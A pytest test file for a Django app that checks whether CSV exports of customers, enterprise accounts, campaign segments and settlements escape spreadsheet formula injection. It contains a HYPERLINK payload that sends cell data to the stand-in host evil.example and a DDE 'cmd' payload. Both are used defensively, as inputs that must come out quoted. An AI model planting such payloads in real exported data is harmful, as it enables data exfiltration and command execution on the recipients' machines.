"""CSV exports: a cell a spreadsheet would run as a formula is written as text (a leading '), in every export."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from core.exports import safe_cell

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("张三", "张三"), ("a=b", "a=b"), ("", ""),
    (Decimal("-5.00"), Decimal("-5.00")), (-3, -3), (None, None), (date(2026, 1, 1), date(2026, 1, 1)),
])
def test_safe_cell_quotes_only_text_that_starts_like_a_formula(value, written):
    assert safe_cell(value) == written


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def cells(rows) -> set[str]:
    return {cell for row in rows for cell in row}


def test_customer_export(client, org):
    customer = org.book[org.am1.pk][0]
    customer.name = HOSTILE
    customer.save()
    client.force_login(org.am1)
    exported = cells(read_csv(client.get(reverse("customers:export"))))
    assert "'" + HOSTILE in exported and HOSTILE not in exported


def test_enterprise_account_export(client, org):
    from enterprise.models import EnterpriseAccount

    EnterpriseAccount.objects.create(name=HOSTILE, industry="@制造", region=org.region_a, account_manager=org.am1)
    client.force_login(org.am1)
    exported = cells(read_csv(client.get(reverse("enterprise:account-export"))))
    assert {"'" + HOSTILE, "'@制造"} <= exported and HOSTILE not in exported


def test_campaign_segment_export(client, org):
    from marketing.services import campaign_create

    customer = org.book[org.am1.pk][0]
    customer.name = HOSTILE
    customer.save()
    campaign = campaign_create(author=org.marketing, name="流量", goal="测试")
    client.force_login(org.am1)
    exported = cells(read_csv(client.get(reverse("marketing:campaign-export", kwargs={"pk": campaign.pk}))))
    assert "'" + HOSTILE in exported and HOSTILE not in exported


def test_sp_settlement_export(client, org):
    from arrears.models import Bill, ServiceProvider, SpCharge
    from tests.factories import LineFactory

    line = LineFactory(customer=org.book[org.am1.pk][0])
    sp = ServiceProvider.objects.create(code="sp-evil", name="+cmd|' /C calc'!A0")
    period = date(2026, 10, 1)
    bill = Bill.objects.create(line=line, customer=line.customer, period=period, amount=Decimal("100.00"),
                               due_date=date(2026, 11, 10), paid_amount=0)
    SpCharge.objects.create(bill=bill, sp=sp, period=period, amount=Decimal("40.00"))
    client.force_login(org.credit_officer)
    rows = read_csv(client.get(reverse("arrears:sp-settlement"), {"period": "2026-10", "min_amount": "10",
                                                                  "export": "csv"}))
    assert "'+cmd|' /C calc'!A0" in cells(rows) and timezone.localdate() > date(2026, 11, 10)
